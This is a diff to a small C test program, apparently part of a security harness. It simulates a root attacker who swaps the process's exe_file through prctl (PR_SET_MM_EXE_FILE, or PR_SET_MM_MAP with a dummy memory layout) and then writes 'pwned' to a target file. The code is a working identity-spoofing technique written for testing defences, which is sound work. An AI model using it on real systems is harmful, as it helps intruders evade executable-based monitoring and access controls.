@@ -1,9 +1,10 @@
 // SPDX-License-Identifier: GPL-2.0
-// setexe EXE TARGET [SECONDS [create]]: the exe-file swap of a root attacker. The
-// kernel lets a process replace its exe_file (prctl PR_SET_MM_EXE_FILE)
-// only once its own image is no longer mapped, so this program copies its
-// image to anonymous memory, continues there, unmaps the original, and
-// then switches its exe_file to EXE (opened read-only). After SECONDS
+// setexe [-m] EXE TARGET [SECONDS [create]]: the exe-file swap of a root
+// attacker. The kernel lets a process replace its exe_file (prctl
+// PR_SET_MM_EXE_FILE, or with -m PR_SET_MM_MAP and its exe_fd) only once
+// its own image is no longer mapped, so this program copies its image to
+// anonymous memory, continues there, unmaps the original, and then
+// switches its exe_file to EXE (opened read-only). After SECONDS
 // (optional) it opens TARGET for writing (creating it with "create") and
 // writes "pwned". It prints the
 // result of every step: "munmap=R prctl=R open=R write=R" (R: the return
@@ -55,6 +56,7 @@ static u64 image_end(u64 start)
 #define SYS_exit_group 231
 #define PR_SET_MM 35
 #define PR_SET_MM_EXE_FILE 13
+#define PR_SET_MM_MAP 14
 #define O_RDONLY 0
 #define O_WRONLY 1
 #define O_CREAT 0100
@@ -103,14 +105,41 @@ static char *num(char *p, long v)
 	return p;
 }
 
+// struct prctl_mm_map (linux/prctl.h).
+struct mm_map {
+	u64 start_code, end_code, start_data, end_data, start_brk, brk, start_stack;
+	u64 arg_start, arg_end, env_start, env_end;
+	u64 *auxv;
+	unsigned int auxv_size, exe_fd;
+};
+
 __attribute__((noreturn)) static void stage2(long argc, char **argv, u64 start, u64 len)
 {
 	long unmapped, fd, set, target, flags, wrote = 0;
 	char out[128], *p = out;
 
+	int map = argv[1][0] == '-' && argv[1][1] == 'm';
+
+	if (map) {
+		argv++;
+		argc--;
+	}
 	unmapped = sys(SYS_munmap, start, len, 0, 0, 0);
 	fd = sys(SYS_open, (long)argv[1], O_RDONLY, 0, 0, 0);
-	set = sys(SYS_prctl, PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0);
+	if (map) {
+		// Any layout the kernel's checks accept: it only describes the
+		// process to /proc; the point is exe_fd.
+		struct mm_map m = {
+			.start_code = 0x100000, .end_code = 0x200000, .start_data = 0x200000, .end_data = 0x300000,
+			.start_brk = 0x300000, .brk = 0x300000, .start_stack = 0x400000,
+			.arg_start = 0x400000, .arg_end = 0x400010, .env_start = 0x400010, .env_end = 0x400020,
+			.exe_fd = (unsigned int)fd,
+		};
+
+		set = sys(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&m, sizeof(m), 0);
+	} else {
+		set = sys(SYS_prctl, PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0);
+	}
 	if (argc > 3) {
 		long ts[2] = {0, 0};
 
